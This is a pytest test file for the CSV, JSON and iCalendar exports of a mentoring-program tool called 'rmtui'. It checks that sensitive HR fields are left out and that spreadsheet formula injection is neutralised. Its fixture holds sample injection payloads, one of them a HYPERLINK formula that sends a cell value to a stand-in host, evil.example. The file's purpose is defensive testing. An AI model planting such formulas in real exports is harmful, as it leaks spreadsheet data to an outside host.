"""Exports read back as a BI tool or a script would, and calendars a strict parser accepts.

The program is `people_program` plus a person whose HR data tries formula
injection, sensitive fields, a custom attribute marked sensitive, and
planned, held and cancelled sessions; it is built once and only read.
"""

from __future__ import annotations

import csv
import datetime as dt
import io
import json
import re
import textwrap
from collections.abc import Iterator
from pathlib import Path

import pytest
from helpers import tree_digest

from rmtui.core import ops
from rmtui.core.calendar import escape_text, fold, vtimezone
from rmtui.core.export import csv_safe
from rmtui.core.store import Program

PAIR = "asa-oberg--nguyen-van-duc"
SECRET = "Set up a Teams channel for the leadership team."
EVIL = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
KINDS = ("participants", "goals", "pairs", "agreements", "sessions", "surveys", "responses")
PARTICIPANT_COLUMNS = [
    "id", "name", "role", "email", "employee_id", "manager_id", "title", "department",
    "location", "timezone", "languages", "grade", "hired", "cohort", "skills", "learning_topics",
    "interests", "availability", "capacity", "status", "joined", "training_completed", "consent",
    "preferences", "exclusions", "attributes.team"]
SENSITIVE = ["birth_date", "birth_year", "gender", "ethnicity", "attributes.generation"]
ATTRIBUTES = textwrap.dedent("""
    [attributes.generation]
    type = "string"
    sensitive = true

    [attributes.team]
    type = "string"
    """)

_BUILT: dict[str, Path] = {}
_DIGEST: dict[str, dict] = {}


def _extend(program: Program) -> None:
    toml = program.root / "program.toml"
    toml.write_text(toml.read_text(encoding="utf-8") + ATTRIBUTES, encoding="utf-8")
    ops.add(program, "participant", {
        "name": "Hacker McHackface", "role": "mentor", "grade": 1, "department": "@SUM(A1:A9)",
        "title": "+1 555 0100", "skills": ["-2+3", "Excel"], "employee_id": "=1+1",
        "email": "hacker@example.com", "birth_date": "1999-12-31", "gender": "woman",
        "ethnicity": "declined", "attributes": {"generation": "Z", "team": EVIL}})
    ops.edit(program, "participant", "asa-oberg",
             [ops.Assignment("email", "set", "asa@example.com")])
    ops.edit(program, "participant", "nguyen-van-duc",
             [ops.Assignment("email", "set", "duc@example.com")])
    ops.log_session(program, PAIR, date="2027-03-10", time="14:30", duration=45,
                    status="planned", topics=["Teams; channels", "Copilot, prompts"])
    ops.log_session(program, PAIR, date="2027-06-10", time="14:30", status="planned")
    ops.log_session(program, PAIR, date="2027-02-20", status="cancelled")


@pytest.fixture
def prog(request: pytest.FixtureRequest) -> Iterator[Program]:
    if "root" not in _BUILT:
        program = request.getfixturevalue("people_program")
        _extend(program)
        _BUILT["root"] = program.root
        _DIGEST["root"] = tree_digest(program.root)
    yield Program(_BUILT["root"])
    assert tree_digest(_BUILT["root"]) == _DIGEST["root"], "an export changed the program"


def read_csv(path: Path) -> list[dict]:
    with open(path, encoding="utf-8", newline="") as fh:
        return list(csv.DictReader(fh))


# --------------------------------------------------------------------------
# CSV, JSON, JSONL
# --------------------------------------------------------------------------


def test_csv_export_of_every_kind_reads_back(prog, tmp_path, rmtui) -> None:
    out = tmp_path / "export"
    run = rmtui("-C", prog.root, "export", "--format", "csv", "-o", f"{out}/")
    assert run.code == 0, run.err
    assert sorted(p.name for p in out.iterdir()) == sorted(f"{k}.csv" for k in KINDS)
    assert (out / "participants.csv").read_bytes().count(b"\r\n") == 6  # RFC 4180 line ends
    people = read_csv(out / "participants.csv")
    with open(out / "participants.csv", encoding="utf-8", newline="") as fh:
        assert next(csv.reader(fh)) == PARTICIPANT_COLUMNS
    asa = next(p for p in people if p["id"] == "asa-oberg")
    assert asa["name"] == "Åsa Öberg"
    assert asa["skills"] == "generative AI; Teams"
    assert asa["grade"] == "2" and asa["capacity"] == "1" and asa["status"] == "active"
    sessions = read_csv(out / "sessions.csv")
    assert list(sessions[0]) == ["id", "pair", "date", "status", "time", "duration_minutes",
                                 "mode", "topics", "goals", "ratings.mentor", "ratings.mentee"]
    held = next(s for s in sessions if s["id"] == f"{PAIR}/2027-02-03")
    assert (held["ratings.mentor"], held["ratings.mentee"], held["status"]) == ("4", "5", "held")
    planned = next(s for s in sessions if s["id"] == f"{PAIR}/2027-03-10")
    assert planned["topics"] == "Teams; channels; Copilot, prompts"
    bare = tmp_path / "bare"  # no extension, several kinds: a folder
    assert rmtui("-C", prog.root, "export", "pairs", "goals", "-f", "csv", "-o", bare).code == 0
    assert sorted(p.name for p in bare.iterdir()) == ["goals.csv", "pairs.csv"]
    pairs = read_csv(out / "pairs.csv")
    assert pairs[0]["accepted.mentor"] == "" and pairs[0]["started"] == "2027-01-20"


def test_csv_columns_are_the_same_whatever_the_data(prog, program, tmp_path, rmtui) -> None:
    toml = program.root / "program.toml"
    toml.write_text(toml.read_text(encoding="utf-8") + ATTRIBUTES, encoding="utf-8")
    for kind in KINDS:
        full = rmtui("-C", prog.root, "export", kind, "--format", "csv")
        empty = rmtui("-C", program.root, "export", kind, "--format", "csv")
        assert full.code == 0 and empty.code == 0, full.err + empty.err
        full_raw, empty_raw = full.result.stdout_bytes, empty.result.stdout_bytes
        assert full_raw.split(b"\r\n")[0] == empty_raw.split(b"\r\n")[0], kind
        assert empty_raw.endswith(b"\r\n")


def test_json_and_jsonl_read_back(prog, tmp_path, rmtui) -> None:
    run = rmtui("-C", prog.root, "export")
    assert run.code == 0, run.err
    doc = json.loads(run.out)
    assert list(doc) == list(KINDS)
    session = next(s for s in doc["sessions"] if s["id"] == f"{PAIR}/2027-02-03")
    assert session["ratings"] == {"mentor": 4, "mentee": 5}
    assert "summary" not in session
    hacker = next(p for p in doc["participants"] if p["id"] == "hacker-mchackface")
    assert hacker["skills"] == ["-2+3", "Excel"]  # JSON keeps values as they are
    assert hacker["attributes"] == {"team": EVIL}
    target = tmp_path / "all.jsonl"
    lines = rmtui("-C", prog.root, "export", "-o", target)
    assert lines.code == 0, lines.err
    records = [json.loads(line) for line in target.read_text(encoding="utf-8").splitlines()]
    for kind in KINDS:
        mine = [{k: v for k, v in r.items() if k != "entity"} for r in records
                if r["entity"] == kind[:-1]]
        assert mine == doc[kind], kind
    per_kind = tmp_path / "json"
    run = rmtui("-C", prog.root, "export", "participants", "sessions", "-f", "json", "-o",
                f"{per_kind}/")
    assert run.code == 0, run.err
    assert json.loads((per_kind / "sessions.json").read_text()) == doc["sessions"]


def test_formula_injection_is_neutralised(prog, tmp_path, rmtui) -> None:
    out = tmp_path / "p.csv"
    assert rmtui("-C", prog.root, "export", "participants", "-o", out).code == 0
    hacker = next(p for p in read_csv(out) if p["id"] == "hacker-mchackface")
    assert hacker["department"] == "'@SUM(A1:A9)"
    assert hacker["title"] == "'+1 555 0100"
    assert hacker["skills"] == "'-2+3; Excel"
    assert hacker["employee_id"] == "'=1+1"
    assert hacker["attributes.team"] == "'" + EVIL
    assert hacker["grade"] == "1"
    for row in read_csv(out):
        for value in row.values():
            assert not value.startswith(("=", "+", "-", "@")), value
    listed = rmtui("-C", prog.root, "participant", "list", "--format", "csv", "--fields",
                   "id,department,title,grade")
    assert "hacker-mchackface,'@SUM(A1:A9),'+1 555 0100,1" in listed.out.splitlines()


@pytest.mark.parametrize(("value", "safe"), [
    ("=1+1", "'=1+1"), ("+1", "'+1"), ("-1", "'-1"), ("@x", "'@x"), ("\tx", "'\tx"),
    ("\r=x", "'\r=x"), ("a=1", "a=1"), ("", ""), ("Åsa", "Åsa"),
])
def test_csv_safe(value: str, safe: str) -> None:
    assert csv_safe(value) == safe


def test_sensitive_and_private_fields_are_left_out_and_named(prog, tmp_path, rmtui) -> None:
    for args in (["--format", "csv", "-o", f"{tmp_path}/csv/"], ["-f", "json"], ["-f", "jsonl"]):
        run = rmtui("-C", prog.root, "export", *args)
        assert run.code == 0, run.err
        text = run.out + "".join(p.read_text() for p in tmp_path.glob("csv/*.csv"))
        for secret in (SECRET, "1999-12-31", "woman", "declined", '"Z"', ",Z,"):
            assert secret not in text, (args, secret)
        assert "left out (sensitive: participant.birth_date (1 record), participant.gender " \
               "(1 record), participant.ethnicity (1 record), participant.attributes.generation " \
               "(1 record)); --include-sensitive exports them" in run.err
        assert "left out (private to the pair: session.summary (1 record))" in run.err
    header = (tmp_path / "csv" / "participants.csv").read_text().splitlines()[0].split(",")
    assert not set(SENSITIVE) & set(header)
    everything = rmtui("-C", prog.root, "export", "participants", "sessions", "-f", "json",
                       "--include-sensitive")
    assert "left out" not in everything.err
    doc = json.loads(everything.out)
    hacker = next(p for p in doc["participants"] if p["id"] == "hacker-mchackface")
    assert hacker["gender"] == "woman" and hacker["attributes"]["generation"] == "Z"
    assert any(s.get("summary") == SECRET for s in doc["sessions"])
    full = rmtui("-C", prog.root, "export", "participants", "-f", "csv", "--include-sensitive")
    first = next(csv.reader(io.StringIO(full.out)))
    assert first == PARTICIPANT_COLUMNS[:25] + ["birth_date", "birth_year", "gender",
                                                "ethnicity", "attributes.generation",
                                                "attributes.team"]


@pytest.mark.parametrize(("args", "message"), [
    (["--format", "csv"], "a CSV file holds one kind"),
    (["teams"], "unknown kind 'teams'"),
    (["participants", "--pair", PAIR], "--pair is for `rmtui export calendar`"),
    (["calendar", "participants"], "`calendar` is exported on its own"),
    (["calendar", "--format", "json"], "the calendar is always iCalendar"),
])
def test_export_usage_errors(prog, rmtui, args, message) -> None:
    run = rmtui("-C", prog.root, "export", *args)
    assert run.code == 2
    assert message in run.err


# --------------------------------------------------------------------------
# iCalendar
# --------------------------------------------------------------------------

_CONTENT_LINE = re.compile(r'^[A-Z][A-Z0-9-]*(;[A-Z][A-Z0-9-]*=("[^"]*"|[^";:,]*))*:.*$')


def content_lines(raw: bytes) -> list[str]:
    """Check RFC 5545's line rules by hand; the unfolded content lines."""
    assert raw.endswith(b"\r\n")
    body = raw[:-2]
    assert b"\n" not in body.replace(b"\r\n", b"") and b"\r" not in body.replace(b"\r\n", b"")
    physical = body.split(b"\r\n")
    for line in physical:
        assert len(line) <= 75, line
        line.decode("utf-8")  # folding never splits a character
    unfolded: list[str] = []
    for line in physical:
        text = line.decode("utf-8")
        if text.startswith(" "):
            unfolded[-1] += text[1:]
        else:
            unfolded.append(text)
    stack: list[str] = []
    for line in unfolded:
        assert _CONTENT_LINE.match(line), line
        if line.startswith("BEGIN:"):
            stack.append(line[6:])
        elif line.startswith("END:"):
            assert stack.pop() == line[4:]
    assert stack == []
    return unfolded


def events(unfolded: list[str]) -> list[dict[str, str]]:
    out, current = [], None
    for line in unfolded:
        if line == "BEGIN:VEVENT":
            current = {}
        elif line == "END:VEVENT":
            out.append(current)
            current = None
        elif current is not None:
            name, _, value = line.partition(":")
            current[name] = value
    return out


def test_calendar_is_strict_rfc5545(prog, tmp_path, rmtui) -> None:
    target = tmp_path / "sessions.ics"
    run = rmtui("-C", prog.root, "export", "calendar", "-o", target)
    assert run.code == 0, run.err
    raw = target.read_bytes()
    unfolded = content_lines(raw)
    assert unfolded[:2] == ["BEGIN:VCALENDAR", "VERSION:2.0"]
    assert any(line.startswith("PRODID:-//rmtui//") for line in unfolded)
    evs = events(unfolded)
    assert [e["UID"] for e in evs] == [f"{PAIR}/2027-02-03@rmtui", f"{PAIR}/2027-03-10@rmtui",
                                       f"{PAIR}/2027-06-10@rmtui"]  # cancelled: left out
    for e in evs:
        assert {"UID", "DTSTAMP", "SUMMARY", "DESCRIPTION"} <= set(e)
    assert evs[0]["DTSTART;VALUE=DATE"] == "20270203" and evs[0]["DTEND;VALUE=DATE"] == "20270204"
    assert evs[1]["DTSTART;TZID=Europe/Stockholm"] == "20270310T143000"
    assert evs[1]["DTEND;TZID=Europe/Stockholm"] == "20270310T151500"
    assert evs[1]["STATUS"] == "TENTATIVE"
    assert "Topics: Teams\\; channels\\, Copilot\\, prompts" in evs[1]["DESCRIPTION"]
    attendee = "ATTENDEE;CN=Nguyễn Văn Đức;ROLE=REQ-PARTICIPANT"
    assert evs[1][attendee] == "mailto:duc@example.com"
    assert evs[2]["DTEND;TZID=Europe/Stockholm"] == "20270610T153000"  # program's 60 minutes
    assert SECRET not in raw.decode("utf-8")
    assert sum(line == "BEGIN:VTIMEZONE" for line in unfolded) == 1

    from ical.calendar_stream import IcsCalendarStream  # strict: pydantic-checked RFC 5545

    cal = IcsCalendarStream.calendar_from_ics(raw.decode("utf-8"))
    assert [e.uid for e in cal.events] == [e["UID"] for e in evs]
    assert cal.events[0].dtstart == dt.date(2027, 2, 3)

    import icalendar

    parsed = icalendar.Calendar.from_ical(raw)
    assert not any(getattr(c, "errors", None) for c in parsed.walk())
    zone = parsed.walk("VTIMEZONE")[0].to_tz()  # our VTIMEZONE, not the system's database
    utc = [dt.datetime(2027, m, 10, 14, 30, tzinfo=zone).astimezone(dt.UTC) for m in (3, 6)]
    assert utc == [dt.datetime(2027, 3, 10, 13, 30, tzinfo=dt.UTC),
                   dt.datetime(2027, 6, 10, 12, 30, tzinfo=dt.UTC)]

    again = rmtui("-C", prog.root, "export", "calendar")
    assert again.result.stdout_bytes == raw  # same data, same file: UIDs are stable


def test_calendar_of_one_pair(prog, rmtui) -> None:
    run = rmtui("-C", prog.root, "export", "calendar", "--pair", PAIR)
    assert run.code == 0, run.err
    assert len(events(content_lines(run.result.stdout_bytes))) == 3
    unknown = rmtui("-C", prog.root, "export", "calendar", "--pair", "nobody--none")
    assert unknown.code == 2 and "no pair 'nobody--none'" in unknown.err


def test_folding_keeps_characters_whole() -> None:
    line = "SUMMARY:" + escape_text("Reverse mentoring: Nguyễn Văn Đức and Åsa Öberg; " * 4)
    folded = fold(line)
    parts = folded.encode("utf-8").split(b"\r\n")
    assert all(len(p) <= 75 for p in parts) and len(parts) > 3
    for p in parts:
        p.decode("utf-8")
    assert all(p.startswith(b" ") for p in parts[1:])
    assert "".join(p[1:] if i else p for i, p in
                   enumerate(folded.split("\r\n"))) == line
    assert escape_text("a,b;c\\d\ne") == "a\\,b\\;c\\\\d\\ne"


@pytest.mark.parametrize(("zone", "changes"), [
    ("Europe/Stockholm", [("STANDARD", "+0100", "+0100"), ("DAYLIGHT", "20270328T020000"),
                          ("STANDARD", "20271031T030000")]),
    ("America/New_York", [("STANDARD", "-0500", "-0500"), ("DAYLIGHT", "20270314T020000"),
                          ("STANDARD", "20271107T020000")]),
    ("Asia/Tokyo", [("STANDARD", "+0900", "+0900")]),
    ("Australia/Lord_Howe", [("DAYLIGHT", "+1100", "+1100"), ("STANDARD", "20270404T020000"),
                             ("DAYLIGHT", "20271003T020000")]),
])
def test_vtimezone_observances(zone: str, changes: list[tuple]) -> None:
    lines = vtimezone(zone, dt.date(2027, 1, 1), dt.date(2027, 12, 31))
    parts = [lines[i + 1:lines.index(f"END:{line[6:]}", i)] for i, line in enumerate(lines)
             if line in ("BEGIN:STANDARD", "BEGIN:DAYLIGHT")]
    kinds = [line[6:] for line in lines if line in ("BEGIN:STANDARD", "BEGIN:DAYLIGHT")]
    assert len(parts) == len(changes)
    first_kind, off_from, off_to = changes[0]
    assert kinds[0] == first_kind
    assert f"TZOFFSETFROM:{off_from}" in parts[0] and f"TZOFFSETTO:{off_to}" in parts[0]
    for (kind, start), part, got in zip(changes[1:], parts[1:], kinds[1:], strict=True):
        assert got == kind and f"DTSTART:{start}" in part
